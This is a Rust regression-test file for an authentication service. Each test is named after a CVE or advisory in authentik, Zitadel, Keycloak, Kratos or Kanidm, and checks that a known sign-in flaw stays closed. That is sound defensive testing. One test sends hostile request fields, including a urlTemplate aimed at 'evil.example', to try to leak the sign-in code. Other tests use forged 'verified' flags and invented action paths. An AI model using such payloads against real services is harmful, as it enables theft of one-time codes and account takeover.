//! What counts as a proof, how long, and how often.

use porteiro_protocol::{
    assurance::{Proof, event_level},
    time::{Duration, OffsetDateTime},
};
use porteiro_service::{
    credentials::{CredentialKind, KINDS},
    flow::{actions, decide},
    registers::REGISTERS,
};
use porteiro_testkit::{Browser, nothing, wrong_code};
use serde_json::json;

use super::{
    super::{
        PASSWORD, app, enrol_totp, register, register_to_enrolment, register_with_password,
        sign_in::link_token,
    },
    ANA, mailbox_proved,
};

/// authentik CVE-2026-49443 and CVE-2026-54730: a stage that an empty form satisfied.
#[tokio::test]
async fn cve_2026_49443_empty_and_partial_submissions_complete_nothing() {
    let app = app().await;
    let mut owner = register_with_password(&app, ANA).await;
    let mut reauthentication = owner.open(json!({"kind": "reauthenticate"})).await;
    reauthentication.act(&mut owner, "password/check", json!({"password": PASSWORD})).await;
    enrol_totp(&mut owner).await;
    let mut browser = Browser::new(&app);
    let mut raised = browser.open(json!({"kind": "sign_in", "level": "aal2"})).await;
    raised.act(&mut browser, "password/check", json!({"identifier": ANA, "password": PASSWORD})).await;
    let mut waiting = browser.open(json!({"kind": "recover"})).await;
    app.forget_limits().await;
    waiting.act(&mut browser, "email_code/send", json!({"identifier": ANA})).await;
    let fresh = browser.open(json!({"kind": "sign_in"})).await;
    let registering = register_to_enrolment(&app, &mut browser, "bob@example.test").await;
    for mut flow in [raised, waiting, fresh, registering] {
        let stage = flow.stage().to_owned();
        for action in actions::all(REGISTERS.purposes).iter().filter(|action| !action.fields().is_empty()) {
            if !flow.offers().contains(&action.path()) {
                continue;
            }
            for value in [None, Some(json!(null)), Some(json!("")), Some(json!([])), Some(json!({}))] {
                app.forget_limits().await;
                let mut input = nothing();
                if let Some(value) = value {
                    for field in action.fields() {
                        input[field.name] = value.clone();
                    }
                }
                let answer = flow.attempt(&mut browser, action.path(), input.clone()).await;
                // 429 where a mail went out less than thirty seconds ago.
                assert!(
                    matches!(answer.status.as_u16(), 422 | 429),
                    "{} {input}: {}",
                    action.path(),
                    answer.text()
                );
                assert_eq!(flow.stage(), stage, "{} {input}", action.path());
            }
        }
    }
    assert!(browser.session().is_none());
}

/// Kanidm GHSA-xxwr-vvr3-2g9f: a case nobody had thought of fell through to "allowed".
#[tokio::test]
async fn ghsa_xxwr_vvr3_2g9f_what_is_not_offered_is_refused() {
    let app = app().await;
    let mut browser = Browser::new(&app);
    for kind in ["sign_in", "register", "recover"] {
        let mut flow = browser.open(json!({"kind": kind})).await;
        let offered: Vec<String> = flow.offers().into_iter().map(str::to_owned).collect();
        let all = actions::all(REGISTERS.purposes);
        let known = all.iter().map(|action| action.path());
        let invented =
            ["enrol/finish", "flow/complete", "passkey/Finish", "account/delete", "email_code/%2e"];
        for action in known.chain(invented).filter(|action| !offered.iter().any(|offer| offer == action)) {
            let answer = flow.attempt(&mut browser, action, nothing()).await;
            assert_eq!(answer.json()["code"], "unknown_action", "{kind} {action}");
        }
        assert_eq!(flow.show(&mut browser).await.json()["step"], 1, "nothing moved");
    }
    for open in [json!({}), json!({"kind": "admin"}), json!({"kind": "sign_in", "role": "admin"})] {
        assert_eq!(browser.post("/v1/flows", &open).await.status, 400, "{open}");
    }
}

/// authentik CVE-2025-64708, Zitadel 2026-03: expiry counted from the last failure, or by whoever cleaned up.
#[tokio::test]
async fn cve_2025_64708_a_failed_attempt_prolongs_nothing() {
    let app = app().await;
    register(&app, ANA).await;
    app.forget_limits().await;
    let mut browser = Browser::new(&app);
    let mut flow = browser.open(json!({"kind": "sign_in"})).await;
    flow.act(&mut browser, "email_code/send", json!({"identifier": ANA})).await;
    let code = app.mailed_code(ANA).await;
    let ends = "SELECT (extract(epoch FROM max(c.expires_at)) * 1000000)::bigint
                     + (extract(epoch FROM max(f.expires_at)) * 1000000)::bigint
                     + (extract(epoch FROM max(f.idle_expires_at)) * 1000000)::bigint
                FROM challenge c JOIN flow f USING (flow_id) WHERE c.module = 'email_code'";
    let before = app.count(ends).await;
    for _ in 0..3 {
        let wrong = json!({"code": wrong_code(&code)});
        assert_eq!(flow.attempt(&mut browser, "email_code/check", wrong).await.status, 422);
    }
    assert_eq!(app.count(ends).await, before);
    // Nothing cleans up here: the row is there, and worthless.
    app.sql("UPDATE challenge SET expires_at = now()").await;
    assert_eq!(flow.attempt(&mut browser, "email_code/check", json!({"code": code})).await.status, 400);
    assert!(app.count("SELECT count(*) FROM challenge WHERE consumed_at IS NULL").await > 0);
}

/// Zitadel CVE-2025-46815, authentik 2026-02: what was good once was good again.
#[tokio::test]
async fn cve_2025_46815_a_used_code_or_link_opens_nothing_more() {
    let app = app().await;
    register(&app, ANA).await;
    app.forget_limits().await;
    let mut browser = Browser::new(&app);
    let mut flow = browser.open(json!({"kind": "sign_in"})).await;
    flow.act(&mut browser, "email_code/send", json!({"identifier": ANA})).await;
    let (code, token) = (app.mailed_code(ANA).await, link_token(&app.mail(ANA).await.1));
    flow.act(&mut browser, "email_link/redeem", json!({"token": token})).await;
    flow.act(&mut browser, "enrol/skip", nothing()).await;
    let over = flow.attempt(&mut browser, "email_code/check", json!({"code": code, "step": 2})).await;
    assert_eq!(over.status, 410);

    let mut second = browser.open(json!({"kind": "sign_in"})).await;
    for (action, input) in
        [("email_code/check", json!({"code": code})), ("email_link/redeem", json!({"token": token}))]
    {
        assert_eq!(second.attempt(&mut browser, action, input).await.status, 400, "{action}: none is out");
    }
    app.forget_limits().await;
    second.act(&mut browser, "email_code/send", json!({"identifier": ANA})).await;
    let answer = second.attempt(&mut browser, "email_link/redeem", json!({"token": token})).await;
    assert_eq!(answer.status, 422, "the first mail's link");
}

/// Zitadel 2026-08: a field of the request made the server answer with the code.
#[tokio::test]
async fn zitadel_2026_08_a_caller_cannot_have_the_code_returned() {
    let app = app().await;
    register(&app, ANA).await;
    app.forget_limits().await;
    let mut browser = Browser::new(&app);
    let mut flow = browser.open(json!({"kind": "sign_in"})).await;
    let input = json!({"identifier": ANA, "returnCode": {}, "return_code": true, "delivery": "return",
                       "medium": {"returnCode": {}}, "urlTemplate": "https://evil.example/{{.Code}}"});
    let answer = flow.attempt(&mut browser, "email_code/send", input).await;
    let (code, token) = (app.mailed_code(ANA).await, link_token(&app.mail(ANA).await.1));
    let headers = format!("{:?}", answer.headers);
    for secret in [&code, &token] {
        assert!(!answer.text().contains(secret) && !headers.contains(secret));
        assert!(!flow.show(&mut browser).await.text().contains(secret));
    }
    assert!(!app.mail(ANA).await.1.contains("evil.example"));
}

/// Kratos GHSA-wc43-73w7-x2f5: the gate overlooked a kind of credential and let a weaker proof through.
#[test]
fn ghsa_wc43_73w7_x2f5_the_gate_is_the_best_of_everything_enrolled() {
    let now = OffsetDateTime::UNIX_EPOCH + Duration::days(20_000);
    let proof = |kind: CredentialKind| Proof {
        method: kind.method(),
        credential: None,
        at: now,
        user_verified: kind == CredentialKind::Passkey,
    };
    let kinds: Vec<CredentialKind> = KINDS.iter().map(|info| info.kind).collect();
    let subsets = |of: &[CredentialKind]| -> Vec<Vec<CredentialKind>> {
        let one = |set: u32| {
            of.iter().enumerate().filter(|(bit, _)| set & (1 << bit) != 0).map(|(_, kind)| *kind).collect()
        };
        (1..1_u32 << of.len()).map(one).collect()
    };
    for enrolled in subsets(&kinds) {
        let all: Vec<Proof> = enrolled.iter().copied().map(proof).collect();
        let best = event_level(&all);
        assert_eq!(decide::available_level(&enrolled, now), best);
        for presented in subsets(&enrolled) {
            // What another provider vouches for is nothing of the account's own (docs/decisions/0098).
            let own = presented.iter().copied().filter(|kind| *kind != CredentialKind::Federated);
            let proofs: Vec<Proof> = own.clone().map(proof).collect();
            let mailbox =
                |kind: &CredentialKind| matches!(kind, CredentialKind::Email | CredentialKind::Federated);
            let real = own.clone().any(|kind| !mailbox(&kind)) && event_level(&proofs) >= best;
            let expected = if enrolled.iter().all(mailbox) { !proofs.is_empty() } else { real };
            let proofs: Vec<Proof> = presented.iter().copied().map(proof).collect();
            assert_eq!(decide::may_bind(&proofs, &enrolled, now), expected, "{presented:?} of {enrolled:?}");
        }
    }
}

/// Keycloak CVE-2026-18963: "another way" and "back" carried a success over to a stage that never ran.
#[tokio::test]
async fn cve_2026_18963_going_back_and_another_way_prove_nothing() {
    let app = app().await;
    register_with_password(&app, ANA).await;
    app.forget_limits().await;
    let mut browser = Browser::new(&app);
    let mut flow = browser.open(json!({"kind": "recover"})).await;
    flow.act(&mut browser, "email_code/send", json!({"identifier": ANA})).await;
    flow.act(&mut browser, "flow/back", nothing()).await;
    let input = json!({"new_password": "a brand new password", "stage": "enrol", "verified": true});
    for action in ["password/set", "email_code/check", "email_link/redeem", "enrol/skip"] {
        assert_eq!(flow.attempt(&mut browser, action, input.clone()).await.status, 400, "{action}");
    }
    assert_eq!((flow.stage(), &flow.now["assurance"]["proved"]), ("authenticate", &json!([])));
    app.forget_limits().await;
    app.sql("UPDATE challenge SET created_at = created_at - interval '31 seconds'").await;
    let done = mailbox_proved(&app, &mut browser, "recover", ANA).await;
    assert_eq!(done.stage(), "enrol", "the ordinary way still works");
}
